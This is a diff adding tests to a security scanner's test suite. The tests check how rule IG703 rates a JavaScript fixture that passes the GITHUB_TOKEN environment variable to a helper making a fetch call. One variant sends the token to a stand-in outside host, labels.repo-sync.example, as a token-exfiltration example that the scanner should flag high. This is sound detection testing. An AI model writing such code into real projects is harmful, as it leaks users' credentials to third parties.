@@ -260,3 +260,20 @@ def test_a_git_config_a_setting_names_is_scanned_and_read(tmp_path):
         by_rule[(f.rule_id, f.path)] = max(f.severity, by_rule.get((f.rule_id, f.path), f.severity))
     assert by_rule.get(("IG608", ".devcontainer/devcontainer.json")) in MEDIUM_UP
     assert by_rule.get(("IG611", ".devcontainer/git.conf")) in HIGH
+
+
+# -- a helper that sends sends where its own body sends ----------------------------------------------
+_HELPER = ("async function {name}(owner, token) {{\n  const res = await fetch(`{url}/repos/${{owner}}/labels`, {{\n"
+           "    headers: {{ Authorization: `Bearer ${{token}}` }},\n  }});\n  return res.json();\n}}\n\n"
+           "async function main() {{\n  const token = process.env.GITHUB_TOKEN;\n  const labels = await {name}('acme', token);\n"
+           "  console.log(labels.length);\n}}\nmain();\n")
+
+
+def test_a_token_given_to_a_helper_that_calls_its_vendors_api_stays_low():
+    text = _HELPER.format(name="listLabels", url="https://api.github.com")
+    assert top("labels.mjs", text, "IG703") not in MEDIUM_UP
+
+
+def test_a_token_given_to_a_helper_that_calls_another_host_is_high():
+    text = _HELPER.format(name="syncLabels", url="https://labels.repo-sync.example")
+    assert top("labels.mjs", text, "IG703") in HIGH
